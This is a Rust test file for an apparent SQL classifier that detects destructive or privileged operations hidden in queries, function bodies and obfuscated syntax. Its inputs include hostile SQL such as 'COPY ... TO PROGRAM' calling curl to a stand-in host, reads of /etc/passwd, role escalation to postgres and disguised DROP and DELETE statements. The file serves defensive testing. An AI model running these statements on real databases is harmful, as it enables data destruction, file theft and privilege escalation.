//! What the classifier finds in statements built to hide what they do, and in harmless ones that
//! only look dangerous.

use sluice_core::sql::{Kind, SqlAnalysis};
use sluice_sql::analyze;

/// Every operation as `kind object`, e.g. `delete public.orders` or `read -`.
fn ops(sql: &str) -> Vec<String> {
    match analyze(sql) {
        SqlAnalysis::Parsed { statements } => statements
            .iter()
            .flat_map(|s| s.operations.iter())
            .map(|o| format!("{} {}", o.kind, o.object.as_ref().map_or("-".to_string(), |n| n.to_string())))
            .collect(),
        SqlAnalysis::Unparseable { message } => vec![format!("unparseable: {message}")],
    }
}

fn has(sql: &str, expected: &[&str]) {
    let found = ops(sql);
    for e in expected {
        assert!(found.iter().any(|f| f == e), "{sql:?}: expected {e:?} in {found:?}");
    }
}

fn only_kinds(sql: &str, allowed: &[Kind]) {
    let SqlAnalysis::Parsed { statements } = analyze(sql) else { panic!("{sql:?} did not parse") };
    for op in statements.iter().flat_map(|s| s.operations.iter()) {
        assert!(allowed.contains(&op.kind), "{sql:?}: unexpected {op} in {statements:?}");
    }
}

#[test]
fn writes_hidden_in_reads_are_found() {
    has("WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", &["delete orders"]);
    has("SELECT 1; COMMIT; DELETE FROM public.orders", &["read -", "transaction -", "delete public.orders"]);
    has("DROP/**/TABLE orders", &["drop orders"]);
    has("EXPLAIN ANALYZE DELETE FROM orders", &["delete orders"]);
    has("EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0", &["update orders"]);
    has("PREPARE p AS DELETE FROM orders", &["delete orders"]);
    has("SELECT * INTO stolen FROM customers", &["create stolen", "read customers"]);
    has("SELECT * FROM orders FOR UPDATE", &["lock orders"]);
    has("TABLE customers", &["read customers"]);
    has("COPY orders TO PROGRAM 'curl evil'", &["copy-program curl evil"]);
    has("COPY orders FROM '/etc/passwd'", &["copy-file /etc/passwd", "copy-from orders"]);
    has("SET ROLE postgres", &["assume-role postgres"]);
    has("SET SESSION AUTHORIZATION postgres", &["assume-role postgres"]);
    has("SELECT set_config('standard_conforming_strings', 'off', false)", &["set standard_conforming_strings"]);
    has("SELECT set_config(current_user, 'x', false)", &["set (computed)"]);
    has("BEGIN READ WRITE", &["set transaction_read_only"]);
    has("SELECT * FROM (SELECT * FROM (SELECT * FROM secret.keys) a) b", &["read secret.keys"]);
    has("SELECT (SELECT max(x) FROM (WITH w AS (UPDATE t SET x = 1 RETURNING x) SELECT * FROM w) s)", &["update t"]);
    has("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 2", &["insert t", "update t"]);
    has("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", &["merge t", "read s", "delete t"]);
    has(
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.x THEN UPDATE SET v = 1 \
         WHEN NOT MATCHED THEN INSERT VALUES (1) WHEN NOT MATCHED BY SOURCE THEN DO NOTHING",
        &["merge t", "update t", "insert t"],
    );
    has(
        "WITH m AS (MERGE INTO public.orders o USING (SELECT 8 AS id) s ON o.id = s.id WHEN MATCHED THEN DELETE \
         RETURNING *) SELECT * FROM m",
        &["delete public.orders"],
    );
    has("CREATE TABLE x AS SELECT * FROM secret.keys", &["create x", "read secret.keys"]);
    has(r#"DELETE FROM U&"\0064ata""#, &["delete data"]);
    has("DELETE FROM orders", &["delete orders"]);
    has("TRUNCATE a, b", &["truncate a", "truncate b"]);
    has("GRANT ALL ON orders TO public", &["grant orders"]);
    has("ALTER SYSTEM SET fsync = off", &["admin -"]);
    has("VACUUM FULL orders", &["maintenance orders"]);
    has("CALL purge()", &["call purge"]);
    has("CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u", &["create t"]);
}

#[test]
fn bodies_are_read() {
    has("DO $$BEGIN DELETE FROM orders; END$$", &["do -", "delete orders"]);
    has("DO $x$BEGIN PERFORM pg_terminate_backend(1); END$x$", &["do -"]);
    has("DO $$BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END$$", &["dynamic-sql -"]);
    has("DO $$DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END$$", &["dynamic-sql -"]);
    has("DO LANGUAGE plpython3u $$import os$$", &["dynamic-sql -"]);
    has(
        "CREATE FUNCTION f() RETURNS void AS $$BEGIN UPDATE orders SET total = 0; END$$ LANGUAGE plpgsql",
        &["create f", "update orders"],
    );
    has("CREATE FUNCTION g() RETURNS void AS 'DELETE FROM orders' LANGUAGE sql", &["create g", "delete orders"]);
    has(
        "CREATE FUNCTION h() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; SELECT 1; END",
        &["delete orders"],
    );
    has("CREATE FUNCTION c() RETURNS int AS 'x', 'y' LANGUAGE c", &["dynamic-sql -"]);
    has("SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')", &["delete orders"]);
    has("DO $$BEGIN DO $i$BEGIN DELETE FROM deep; END$i$; END$$", &["delete deep"]);
}

#[test]
fn functions_are_listed() {
    let SqlAnalysis::Parsed { statements } =
        analyze("SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity")
    else {
        panic!()
    };
    let names: Vec<String> = statements[0].functions.iter().map(ToString::to_string).collect();
    assert_eq!(names, ["pg_catalog.pg_terminate_backend"]);
    let SqlAnalysis::Parsed { statements } = analyze("DO $$BEGIN PERFORM lo_import('/etc/passwd'); END$$") else {
        panic!()
    };
    assert!(statements[0].functions.iter().any(|f| f.name == "lo_import"));
}

#[test]
fn look_alikes_stay_reads() {
    let read_only = [Kind::Read];
    only_kinds("SELECT 'DROP TABLE orders; DELETE FROM x'", &read_only);
    only_kinds("SELECT 1 /* DELETE FROM orders */", &read_only);
    only_kinds("SELECT 1 /* nested /* DROP TABLE t */ still comment */", &read_only);
    only_kinds("SELECT $$DELETE FROM orders$$", &read_only);
    only_kinds("SELECT $tag$ ; DROP TABLE t; $tag$", &read_only);
    only_kinds("SELECT * FROM drop_log WHERE action = 'delete'", &read_only);
    only_kinds("SELECT \"delete\" FROM \"update\"", &read_only);
    only_kinds("-- DROP TABLE orders\nSELECT 1", &read_only);
    only_kinds("WITH t AS (SELECT 1) SELECT * FROM t", &read_only);
    only_kinds("EXPLAIN DELETE FROM orders", &read_only);
    only_kinds("SELECT E'\\'; DROP TABLE t; --'", &read_only);
    only_kinds("SHOW search_path", &read_only);
    only_kinds("VALUES (1), (2)", &read_only);
}

#[test]
fn cte_names_do_not_hide_tables() {
    // The first `secrets` is the real table: a CTE of that name elsewhere must not mask it.
    has("SELECT * FROM secrets UNION ALL (WITH secrets AS (SELECT 1) SELECT * FROM secrets)", &["read secrets"]);
    let found = ops("WITH secrets AS (SELECT 1) SELECT * FROM secrets");
    assert!(!found.iter().any(|f| f == "read secrets"), "{found:?}");
    // A DML target is always a table, never a CTE.
    has("WITH orders AS (SELECT 1) DELETE FROM orders", &["delete orders"]);
}

#[test]
fn no_where_is_noticed() {
    let SqlAnalysis::Parsed { statements } = analyze("UPDATE t SET x = 1; DELETE FROM u WHERE id = 1") else {
        panic!()
    };
    assert!(statements[0].operations[0].no_where);
    assert!(!statements[1].operations[0].no_where);
}

#[test]
fn unparseable_is_reported_with_the_parsers_words() {
    assert_eq!(ops("SELEC 1"), ["unparseable: syntax error at or near \"SELEC\""]);
    assert!(ops("SELECT 1\0; DROP TABLE t")[0].starts_with("unparseable"));
    // A body sluice cannot read is not unparseable but dynamic SQL: the server may accept it.
    assert!(ops("DO $$BEGIN DELETE FRM t; END$$").iter().any(|o| o.starts_with("dynamic-sql")));
    assert!(ops("SELECT 'unterminated")[0].starts_with("unparseable"));
}

#[test]
fn prepare_and_execute() {
    let SqlAnalysis::Parsed { statements } =
        analyze("PREPARE p(int) AS SELECT * FROM t WHERE id = $1; EXECUTE p(1); DEALLOCATE p")
    else {
        panic!()
    };
    assert_eq!(statements[0].prepares.as_deref(), Some("p"));
    assert_eq!(statements[1].executes.as_deref(), Some("p"));
    assert_eq!(statements[2].deallocates.as_deref(), Some("p"));
}

#[test]
fn output_columns_and_aliases_are_reported_for_masking_lineage() {
    let SqlAnalysis::Parsed { statements } =
        analyze("SELECT c.id, upper(x) AS u, row_to_json(c) FROM (SELECT ssn AS x FROM customers) s, customers c")
    else {
        panic!("parses")
    };
    let targets: Vec<(Vec<String>, bool, Option<String>)> =
        statements[0].targets.iter().map(|t| (t.refs.clone(), t.bare, t.alias.clone())).collect();
    let expect = |refs: &[&str], bare: bool, alias: Option<&str>| {
        (refs.iter().map(|r| r.to_string()).collect::<Vec<_>>(), bare, alias.map(str::to_string))
    };
    assert!(targets.contains(&expect(&["id"], true, None)), "{targets:?}");
    assert!(targets.contains(&expect(&["x"], false, Some("u"))), "{targets:?}");
    assert!(targets.contains(&expect(&["c"], false, None)), "{targets:?}");
    assert!(targets.contains(&expect(&["ssn"], true, Some("x"))), "{targets:?}");
    assert!(statements[0].aliases.iter().any(|(a, o)| a == "c" && o.name == "customers"));
    let SqlAnalysis::Parsed { statements } = analyze("SELECT to_jsonb(t.*), (SELECT max(v) FROM w) FROM t") else {
        panic!("parses")
    };
    let refs: Vec<&Vec<String>> = statements[0].targets.iter().map(|t| &t.refs).collect();
    assert!(refs.contains(&&vec!["*".to_string()]) && refs.contains(&&vec!["v".to_string()]), "{refs:?}");
}

#[test]
fn outputs_inside_bodies_say_which_body() {
    let cases = [
        (
            "CREATE FUNCTION f() RETURNS SETOF text LANGUAGE sql AS $$ SELECT reverse(ssn) FROM customers $$",
            "function f",
        ),
        (
            "CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ DECLARE v text; \
             BEGIN SELECT ssn INTO v FROM customers LIMIT 1; RAISE NOTICE '%', v; END $$",
            "function g",
        ),
        ("DO $$ BEGIN RAISE NOTICE '%', (SELECT max(ssn) FROM customers); END $$", "a DO block"),
        ("CREATE FUNCTION h() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT ssn FROM customers; END", "function h"),
    ];
    for (sql, body) in cases {
        let SqlAnalysis::Parsed { statements } = analyze(sql) else { panic!("parses: {sql}") };
        let ssn = statements[0].targets.iter().find(|t| t.refs.contains(&"ssn".to_string()));
        let within = ssn.and_then(|t| t.body.as_deref());
        assert!(within.is_some_and(|w| w.ends_with(body)), "{sql}: {:?}", statements[0].targets);
    }
    let SqlAnalysis::Parsed { statements } = analyze("SELECT ssn FROM customers") else { panic!() };
    assert_eq!(statements[0].targets[0].body, None, "a plain query's outputs are not in a body");
}

#[test]
fn output_refs_follow_output_order() {
    let refs = sluice_sql::output_refs(
        "SELECT s.id, upper(s.diagnosis) AS d, (SELECT max(x.ssn) FROM x) AS m, row_to_json(s.*) AS j FROM staff s",
    );
    let strings =
        |v: &[&[&str]]| v.iter().map(|r| r.iter().map(|s| s.to_string()).collect()).collect::<Vec<Vec<String>>>();
    assert_eq!(refs, Some(strings(&[&["id"], &["diagnosis"], &["ssn"], &["*"]])));
    let union = sluice_sql::output_refs("SELECT a, 1 FROM t UNION ALL SELECT 2, b FROM u");
    assert_eq!(union, Some(strings(&[&["a"], &["b"]])));
    assert_eq!(sluice_sql::output_refs("SELECT 1; SELECT 2"), None);
    assert_eq!(sluice_sql::output_refs("DELETE FROM t"), None);
    assert_eq!(sluice_sql::output_refs("VALUES (1)"), None, "no target list and no branches: unknown");
}

#[test]
fn special_forms_are_not_function_calls() {
    // Names that are syntax, not pg_proc entries: the catalog check reads the server again for
    // a called function it does not know, so these must not be reported as calls.
    let sql = "SELECT coalesce(a, 1), greatest(a, b), trim(both ' ' from a), json_array(1, 2), \
               xmlelement(name x), extract(year from now()), substring(a from 1 for 2) FROM t";
    let SqlAnalysis::Parsed { statements } = analyze(sql) else { panic!("parses") };
    let names: Vec<&str> = statements[0].functions.iter().map(|f| f.name.as_str()).collect();
    for special in ["coalesce", "greatest", "trim", "json_array", "xmlelement"] {
        assert!(!names.contains(&special), "{special} in {names:?}");
    }
}

#[test]
fn functions_that_run_a_query_string_or_read_a_table_by_name_are_read_through() {
    let ops = |sql: &str| match sluice_sql::analyze(sql) {
        SqlAnalysis::Parsed { statements } => statements.into_iter().flat_map(|s| s.operations).collect::<Vec<_>>(),
        SqlAnalysis::Unparseable { message } => panic!("{sql}: {message}"),
    };
    let reads = |sql: &str, table: &str| {
        ops(sql).iter().any(|o| o.kind == Kind::Read && o.object.as_ref().is_some_and(|n| n.name == table))
    };
    let dynamic = |sql: &str| ops(sql).iter().any(|o| o.kind == Kind::DynamicSql);
    assert!(reads("SELECT * FROM ts_stat('SELECT body FROM public.secrets')", "secrets"));
    assert!(reads("SELECT ts_rewrite('a'::tsquery, 'SELECT q, s FROM secrets')", "secrets"));
    assert!(!dynamic("SELECT ts_rewrite('a'::tsquery, 'b'::tsquery, 'c'::tsquery)"), "the form without SQL");
    assert!(reads("SELECT query_to_xml('SELECT * FROM secrets', true, false, '')", "secrets"));
    assert!(
        ops("SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, false, '')")
            .iter()
            .any(|o| o.kind == Kind::Delete)
    );
    assert!(dynamic("SELECT ts_stat(current_setting('x'))"), "SQL not known before it runs");
    assert!(reads("SELECT table_to_xml('public.secrets', true, false, '')", "secrets"));
    assert!(reads("SELECT table_to_xml('\"Odd\"\"Name\"', true, false, '')", "Odd\"Name"));
    assert!(dynamic("SELECT table_to_xml(('secr' || 'ets')::regclass, true, false, '')"));
    assert!(dynamic("SELECT table_to_xml('a.b.c.d', true, false, '')"), "not a plain name");
    assert!(dynamic("SELECT schema_to_xml('public', true, false, '')"));
    assert!(dynamic("SELECT cursor_to_xml('c', 10, true, false, '')"));
}

#[test]
fn trigger_functions_parse() {
    // A trigger function's TG_* variables once made libpg_query's PL/pgSQL JSON invalid (see
    // vendor/pg_query/PATCHED.md): every trigger function was refused as unparseable.
    let body = "CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN \
                IF TG_OP = 'DELETE' THEN DELETE FROM audit_log WHERE id = OLD.id; RETURN OLD; END IF; \
                RETURN NEW; END $$";
    let SqlAnalysis::Parsed { statements } = analyze(body) else { panic!("{body} does not parse") };
    let ops: Vec<String> = statements[0].operations.iter().map(|o| o.to_string()).collect();
    assert!(ops.iter().any(|o| o.starts_with("DELETE on audit_log")), "{ops:?}");
}

#[test]
fn plpgsql_whose_types_need_the_catalog_is_read() {
    // libpg_query compiles a body against a catalog of built-in types only; these failed before
    // (vendor/pg_query/PATCHED.md) and were dynamic SQL. What the body runs is found instead.
    for body in [
        "CREATE FUNCTION f(VARIADIC ids int[]) RETURNS void LANGUAGE plpgsql AS $$ \
         BEGIN DELETE FROM audit_log WHERE id = ANY(ids); END $$",
        "CREATE FUNCTION f(x audit_log.id%TYPE) RETURNS SETOF audit_log.id%TYPE LANGUAGE plpgsql AS $$ \
         BEGIN DELETE FROM audit_log WHERE id = x; RETURN; END $$",
        "CREATE FUNCTION f(a anyarray) RETURNS void LANGUAGE plpgsql AS $$ DECLARE x xy_tuple[]; \
         BEGIN FOREACH x SLICE 1 IN ARRAY a LOOP DELETE FROM audit_log; END LOOP; END $$",
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ DECLARE v app.money_amount; \
         BEGIN DELETE FROM audit_log WHERE amount = v; END $$",
    ] {
        let found = ops(body);
        assert!(found.iter().any(|o| o == "delete audit_log"), "{body}: {found:?}");
        assert!(!found.iter().any(|o| o.starts_with("dynamic-sql")), "{body}: {found:?}");
    }
}

#[test]
fn any_partitioning_strategy_parses() {
    // PostgreSQL 15 checks the strategy when the statement runs (vendor/pg_query/PATCHED.md).
    assert_eq!(ops("CREATE TABLE p (a int) PARTITION BY MAGIC (a)"), ["create p"]);
}
